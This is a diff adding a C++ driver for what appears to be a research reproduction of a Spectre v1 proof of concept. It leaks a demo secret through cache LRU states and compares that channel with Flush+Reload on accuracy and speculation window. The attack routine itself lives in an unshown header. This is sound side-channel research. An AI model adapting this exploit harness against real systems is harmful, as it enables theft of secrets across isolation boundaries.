@@ -1,0 +1,65 @@
+/**
+ * @file
+ * Spectre v1 proof of concept using the LRU channel as the disclosure
+ * primitive (paper Section VIII).
+ *
+ * The victim holds a secret behind a bounds-checked array access.  The
+ * attacker trains the branch predictor, triggers one transient
+ * out-of-bounds access per probe round, and reads the transiently
+ * touched cache set back through the LRU state of the L1D — with an
+ * encode that is a cache HIT, so a far smaller speculation window
+ * suffices than for the classic Flush+Reload PoC.
+ *
+ *   $ ./spectre_poc [secret]
+ */
+
+#include <iostream>
+#include <string>
+
+#include "core/table.hpp"
+#include "spectre/attack.hpp"
+
+using namespace lruleak;
+using namespace lruleak::spectre;
+
+int
+main(int argc, char **argv)
+{
+    const std::string secret =
+        argc > 1 ? argv[1] : "The Magic Words are Squeamish Ossifrage.";
+
+    std::cout << "lruleak Spectre v1 PoC — disclosure through cache LRU "
+                 "states\n\n";
+    std::cout << "victim secret (" << secret.size() << " bytes) hidden "
+              << "behind `if (x < array1_size)`\n\n";
+
+    core::Table table({"Disclosure", "Recovered", "Accuracy",
+                       "Victim calls"});
+    for (auto d : {Disclosure::LruAlg1, Disclosure::LruAlg2,
+                   Disclosure::FlushReloadMem}) {
+        SpectreAttackConfig cfg;
+        cfg.disclosure = d;
+        cfg.rounds = 3;
+        cfg.seed = 7;
+        const auto res = runSpectreAttack(cfg, secret);
+        std::string shown;
+        for (char c : res.recovered)
+            shown += (c >= 32 && c < 127) ? c : '?';
+        table.addRow({disclosureName(d), shown,
+                      core::fmtPercent(res.byte_accuracy),
+                      std::to_string(res.victim_calls)});
+    }
+    table.print(std::cout);
+
+    // The speculation-window advantage, measured.
+    SpectreAttackConfig lru_cfg;
+    lru_cfg.disclosure = Disclosure::LruAlg1;
+    SpectreAttackConfig fr_cfg;
+    fr_cfg.disclosure = Disclosure::FlushReloadMem;
+    std::cout << "\nminimum speculation window:  LRU Alg.1 = "
+              << minimumWorkingWindow(lru_cfg) << " cycles,  F+R (mem) = "
+              << minimumWorkingWindow(fr_cfg)
+              << " cycles\n(the LRU encode is an L1 hit; F+R must pull "
+                 "its flushed line from memory)\n";
+    return 0;
+}
